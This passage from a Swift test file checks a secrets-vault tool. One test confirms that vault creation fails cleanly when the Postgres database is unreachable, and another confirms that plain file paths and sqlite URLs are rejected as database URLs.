        let directory = TemporaryDirectory()
        let create = #expect(throws: KeywardenError.self) {
            try Vault.create(in: .postgres(url), slots: [.keyfile(path: directory.file("k"))], scopes: [], context: VaultFixture.context(anchorDirectory: directory.path))
        }
        #expect(create?.message.hasPrefix("cannot reach the vault database at 127.0.0.1:\(port)") == true, "\(create?.message ?? "")")
        #expect(!FileManager.default.fileExists(atPath: directory.file("k")))
    }

    @Test("a file path or another scheme is not taken for a database URL")
    func notPostgres() throws {
        #expect(!DatabaseURL.isPostgres("/var/lib/keywarden/vault.db"))
        #expect(!DatabaseURL.isPostgres("sqlite:///vault.db"))
        let error = #expect(throws: KeywardenError.self) { try VaultAddress.resolve(environment: [:], database: "/tmp/vault.db") }
        #expect(error?.kind == .invalidInput)
        #expect(error?.message.contains("is not a postgres:// URL") == true)
    }
}
